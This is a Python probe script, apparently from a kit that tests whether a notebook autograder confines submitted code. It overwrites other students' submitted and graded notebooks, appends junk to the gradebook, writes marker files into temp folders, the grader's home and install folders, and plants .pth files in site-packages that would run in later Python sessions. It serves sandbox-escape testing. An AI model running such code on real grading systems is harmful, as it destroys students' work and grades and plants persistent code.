# Writes wherever it can outside its scratch folder: the course being graded, found through the
# grader's working folder (other students' submissions, graded notebooks, the gradebook, a file of
# its own), the temporary folders, the grader's home, site-packages (a .pth file runs in every later
# Python) and the folders the install records name (the reference's among them).
# __KIT__
import glob
import sys
import sysconfig

MARK = "mallory_was_here"
wrote = []


def attempt(path, data, mode="w"):
    try:
        with open(path, mode) as fh:
            fh.write(data)
        wrote.append(path)
    except OSError:
        pass


for course in _kit_course_folders(["/proc/%d/cwd" % os.getppid()]):
    attempt(os.path.join(course, MARK + ".txt"), "hello")
    for folder in (_KIT_SUBMITTED, _KIT_GRADED):
        for path in glob.glob(os.path.join(course, folder, "*", "*", "*.ipynb")):
            attempt(path, "{}")
    attempt(os.path.join(course, _KIT_GRADEBOOK), "not a database any more", "a")
homes = [item.split("=", 1)[1] for item in (_kit_read("/proc/%d/environ" % os.getppid()) or "").split("\0")
         if item.startswith("HOME=")]
installed = _kit_python_places()[0]
sites = [p for p in sys.path if p.endswith("-packages")] + [sysconfig.get_paths()["purelib"]]
for folder in ["/tmp", "/var/tmp", "/dev/shm"] + homes + installed:
    attempt(os.path.join(folder, MARK + ".txt"), "hello")
for folder in sites:
    attempt(os.path.join(folder, MARK + ".pth"), "/nonexistent-" + MARK + "\n")
print("WROTE " + json.dumps(sorted(set(wrote))[:100]))
